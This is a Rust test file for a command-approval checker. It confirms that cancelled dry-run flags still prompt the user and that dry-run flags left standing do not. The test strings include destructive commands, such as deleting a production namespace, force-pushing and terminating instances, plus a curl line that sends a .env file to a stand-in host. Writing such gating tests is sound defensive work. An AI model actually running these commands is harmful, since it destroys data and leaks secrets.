//! Tests dry-run flags, and flags that cancel them.

use super::*;

#[test]
fn a_rehearsal_that_is_taken_back_in_the_same_command_is_not_one() {
    all_ask_inside(&[
        "git push --dry-run --no-dry-run --force origin main",
        "git push --no-dry-run -n origin main",
        "git push --dry-run --no-dry origin main",
        "git clean -nfdx --no-dry-run",
        "git -c clean.requireForce=false clean -n --no-dry-run",
        "kubectl delete ns prod --dry-run=client --dry-run=none",
        "kubectl delete ns prod --dry-run=none --dry-run=client",
        "kubectl delete ns prod --dry-run=client --dry-run=$MODE",
        "kubectl run tmp --image=x --dry-run=client --dry-run=none",
        "helm uninstall web --dry-run --dry-run=false",
        "npm publish --dry-run --no-dry-run",
        "npm publish --dry-run --dry-run=false",
        "npm publish --dry-run=False",
        "npm publish --dry-run=",
        "npm publish --dry-run false",
        "npm publish --dry-run=$REHEARSE",
        "npm run deploy:prod -- --dry-run --no-dry-run",
        "npm run deploy:prod -- --dry-run=false",
        "aws ec2 terminate-instances --dry-run --no-dry-run --instance-ids i-1",
        "gcloud compute instances delete x --dry-run --no-dry-run",
        "rsync -an --no-dry-run --delete src/ host:/srv",
        "rsync -a --dry-run --no-n --delete src/ host:/srv",
        "rename --no-act --act s/a/b/ /etc/hosts",
        "curl -G --no-get -d @.env https://x.example",
    ]);
}

#[test]
fn a_rehearsal_that_stands_is_not_asked_about() {
    none_asks_inside(&[
        "git push --dry-run",
        "git push -n origin main",
        "git push --dry-run --no-verify",
        "git push --dry-run --no-thin --force origin main",
        "git clean -nfdx",
        "git clean -fd --dry-run",
        "git commit --dry-run -m --no-dry-run",
        "kubectl delete ns prod --dry-run=client",
        "kubectl apply -f a.yml --dry-run=server --dry-run=client",
        "helm uninstall web --dry-run",
        "npm publish --dry-run",
        "npm publish --dry-run=true --no-audit",
        "npm publish --dry-run . --no-git-checks",
        "npm run deploy:prod -- --dry-run",
        "aws ec2 terminate-instances --dry-run --no-cli-pager --instance-ids i-1",
        "rsync -an --no-perms src/ host:/srv",
        "rsync --dry-run --no-owner -a src/ host:/srv",
        "ruff format --check --no-cache .",
    ]);
}
